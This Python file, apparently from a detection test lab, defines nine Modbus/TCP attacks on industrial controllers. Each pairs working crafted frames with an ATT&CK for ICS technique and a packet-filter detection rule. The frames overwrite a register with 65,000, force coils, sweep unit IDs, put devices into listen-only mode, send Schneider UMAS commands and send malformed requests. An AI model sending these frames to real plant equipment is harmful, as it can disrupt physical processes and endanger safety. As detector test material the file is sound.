"""Attacks by Modbus (MODBUS Application Protocol V1.1b3, Messaging on TCP/IP V1.0b)."""

from __future__ import annotations

import struct
from collections.abc import Callable

from tests.lab.attacks import wire
from tests.lab.attacks.attack import Aim, Attack

_FROM = " && ip.src == {source} && ip.dst == {target}"


def _adu(number: int, unit: int, pdu: bytes) -> bytes:
    return struct.pack(">HHHB", number, 0, len(pdu) + 1, unit) + pdu


def _asks(*pdus: bytes) -> Callable[[Aim], None]:
    """Sends requests to the target's unit."""

    def act(aim: Aim) -> None:
        unit = aim.number("unit")
        wire.tcp(aim, *(_adu(0x5300 + n, unit, pdu) for n, pdu in enumerate(pdus)))

    return act


def _overwrite(aim: Aim) -> None:
    """Writes a register that the plant reads."""
    register = aim.number("start") + 5
    _asks(struct.pack(">BHH", 6, register, 65000))(aim)


def _sweep(aim: Aim) -> None:
    wire.tcp(aim, *(_adu(n, n, b"\x03\0\0\0\1") for n in range(200, 212)), answers=False)


def _harvest(aim: Aim) -> None:
    unit = aim.number("unit")
    asked = (struct.pack(">BHH", 4, start, 50) for start in (0, 50, 100, 150))
    wire.tcp(aim, *(_adu(n, unit, pdu) for n, pdu in enumerate(asked)))


def _broken(aim: Aim) -> None:
    for message in (b"\0\1\xff\xff\0\6\1\3\0\0\0\1", b"\0\2\0\0\0\6\1\3\0\0\xff\xff"):
        wire.tcp(aim, message, answers=False)


ATTACKS = (
    Attack(
        "modbus value out of range",
        "Writes 65,000 where about 200 is usual",
        "modbus",
        ("T0836",),
        "value",
        "modbus.func_code == 6 && frame contains fd:e8" + _FROM,
        _overwrite,
    ),
    Attack(
        "modbus coils forced",
        "Switches eight coils",
        "modbus",
        ("T0855",),
        "new operation",
        "modbus.func_code == 15" + _FROM,
        _asks(b"\x0f\0\0\0\x08\1\xff"),
    ),
    Attack(
        "modbus units swept",
        "Asks for units that are not there",
        "modbus",
        ("T0846",),
        "scan",
        "mbtcp.unit_id >= 200 && mbtcp.unit_id < 212" + _FROM,
        _sweep,
    ),
    Attack(
        "modbus identity read",
        "Asks for the server's identity by function 17",
        "modbus",
        ("T0888",),
        "new operation",
        "modbus.func_code == 17" + _FROM,
        _asks(b"\x11"),
    ),
    Attack(
        "modbus communications restarted",
        "Diagnostics, sub-function 1",
        "modbus",
        ("T0816",),
        "engineering operation",
        "modbus.func_code == 8 && modbus.diagnostic_code == 1" + _FROM,
        _asks(b"\x08\0\1\0\0"),
    ),
    Attack(
        "modbus silenced",
        "Diagnostics, sub-function 4: the device listens only",
        "modbus",
        ("T0814",),
        "engineering operation",
        "modbus.func_code == 8 && modbus.diagnostic_code == 4" + _FROM,
        _asks(b"\x08\0\4\0\0"),
    ),
    Attack(
        "umas tried",
        "Schneider's engineering by function 90",
        "modbus",
        ("T0843",),
        "engineering operation",
        "modbus.func_code == 90" + _FROM,
        _asks(b"\x5a\0\x02", b"\x5a\0\x10\0\0\0\0"),
    ),
    Attack(
        "modbus points harvested",
        "Reads all input registers",
        "modbus",
        ("T0861",),
        "new operation",
        "modbus.func_code == 4" + _FROM,
        _harvest,
    ),
    Attack(
        "modbus malformed",
        "Another protocol's number; more registers than there can be",
        "modbus",
        ("T0814",),
        "protocol violation",
        "tcp.dstport == 502 && tcp.len == 12 && (frame contains ff:ff)" + _FROM,
        _broken,
        crafted=True,
    ),
)
